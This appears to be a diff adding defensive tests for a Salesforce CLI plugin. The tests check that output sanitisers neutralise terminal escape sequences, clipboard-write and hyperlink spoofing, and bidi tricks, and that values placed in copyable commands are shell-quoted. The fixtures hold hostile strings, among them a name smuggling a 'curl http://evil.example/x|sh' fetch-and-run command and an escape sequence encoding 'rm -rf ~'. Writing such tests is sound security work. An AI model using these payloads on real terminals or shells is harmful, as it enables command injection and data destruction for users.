@@ -1,0 +1,104 @@
+import { readdirSync } from 'node:fs';
+import { stripVTControlCharacters } from 'node:util';
+import { Messages } from '@salesforce/core/messages';
+import { expect } from 'chai';
+import fc from 'fast-check';
+import { shellWord } from '../../../src/errors/shell-word.ts';
+import { visible, visibleData, visibleJson, visiblePage } from '../../../src/output/safety/visible.ts';
+import { fill } from '../../../src/output/texts.ts';
+
+Messages.importMessagesDirectoryFromMetaUrl(import.meta.url);
+
+const hostile = [
+  'nice\u001b[2J\u001b]52;c;cm0gLXJmIH4K\u0007',
+  '\u001b]8;;http://evil.example/\u001b\\click\u001b]8;;\u001b\\',
+  'Robot\u009b2J\u009d0;title\u009c',
+  '\u202egnp.exe\u2066\u2069',
+  'a\r\nb\u2028c\u2029d\u0085e',
+  '\u0000\u0008\u007f\u200b\ufeff\u{e0041}',
+];
+const orders = /(?!\n)\p{Cc}|[\u061c\u200b\u200e\u200f\u2028-\u202e\u2060-\u206f\ufeff\u{e0000}-\u{e007f}]/u;
+const anyHostile = fc.oneof(fc.constantFrom(...hostile), fc.string({ unit: 'binary', maxLength: 30 }));
+
+/** Every text of every bundle in `messages`, with its key. */
+function allTexts(): Array<readonly [key: string, text: string]> {
+  const names = readdirSync(new URL('../../../messages/', import.meta.url)).map((file) => file.replace(/\.md$/, ''));
+  return names.flatMap((name) => {
+    const bundle = Messages.loadMessages('sf-plugin-eca', name);
+    const { messages } = bundle as unknown as { messages: Map<string, string | string[]> };
+    return [...messages].flatMap(([key, text]) =>
+      [text].flat(2).map((one) => [`${name}: ${key}`, String(one)] as const),
+    );
+  });
+}
+
+describe('attack: texts of an org steer the terminal, forge lines or hide', () => {
+  const texts = allTexts();
+
+  it('no text of ours obeys a value that stands in it', () => {
+    expect(texts.length).to.be.greaterThan(1000);
+    for (const [key, text] of texts) {
+      for (const value of hostile) {
+        const data = Object.fromEntries([...text.matchAll(/\{(\w+)\}/g)].map(([, name = '']) => [name, value]));
+        expect(fill(text, data), key).not.to.match(orders);
+      }
+    }
+  });
+
+  it('any value is one line, and its signs can be seen', () => {
+    fc.assert(
+      fc.property(anyHostile, (value) => {
+        expect(visible(value)).not.to.match(orders).and.not.include('\n');
+        expect(stripVTControlCharacters(visiblePage(value))).not.to.match(orders);
+      }),
+    );
+    expect(visible('a\u001b[2J\nb\u202e\u009b')).to.equal('a␛[2J␊b‹202E›‹009B›');
+  });
+
+  it('a page of ours keeps its lines and its colours', () => {
+    const page = '\u001b[1mAcme\u001b[22m\n  \u001b[32m✓\u001b[39m Grüße 👩‍👩‍👧 日本語';
+    expect(visiblePage(page)).to.equal(page);
+  });
+
+  it('a result is shown without orders, in names and values, and stays what it is', () => {
+    const when = new Date(0);
+    expect(visibleData({ apps: [{ label: 'a\nb', 'k\u001b': 1, none: null, when }] })).to.deep.equal({
+      apps: [{ label: 'a␊b', 'k␛': 1, none: null, when }],
+    });
+  });
+
+  it('JSON has escapes for them, and the same values', () => {
+    fc.assert(
+      fc.property(anyHostile, (value) => {
+        const json = visibleJson(JSON.stringify({ value }, null, 2));
+        expect(json).not.to.match(orders);
+        expect(JSON.parse(json)).to.deep.equal({ value });
+      }),
+    );
+  });
+});
+
+describe('attack: a name runs in the shell of whoever copies a command', () => {
+  const texts = allTexts();
+  const name = 'Acme;curl -s http://evil.example/x|sh #$(id)`id`\'"';
+
+  it('every value in a command to copy is one word', () => {
+    const commands = texts.filter(([, text]) => /\bsf eca [^\n]*\{\w+\}/.test(text));
+    expect(commands.length).to.be.greaterThan(100);
+    for (const [key, text] of commands) {
+      const data = Object.fromEntries([...text.matchAll(/\{(\w+)\}/g)].map(([, place = '']) => [place, name]));
+      for (const [command = ''] of fill(text, data).matchAll(/\bsf eca [^\n]*/g)) {
+        const asked = /\bsf eca [^"\n]*/.exec(text)?.[0] ?? '';
+        if (/\{(?!option\})\w+\}/.test(asked)) expect(command, key).to.include(shellWord(name));
+      }
+    }
+  });
+
+  it('what is harmless stays as it is', () => {
+    for (const plain of ['Acme_Sync', 'admin@acme.com', 'force-app/main', '', 'https://a.example/cb']) {
+      expect(shellWord(plain)).to.equal(plain);
+    }
+    expect(shellWord("it's")).to.equal("'it'\\''s'");
+    expect(shellWord('My App')).to.equal("'My App'");
+  });
+});
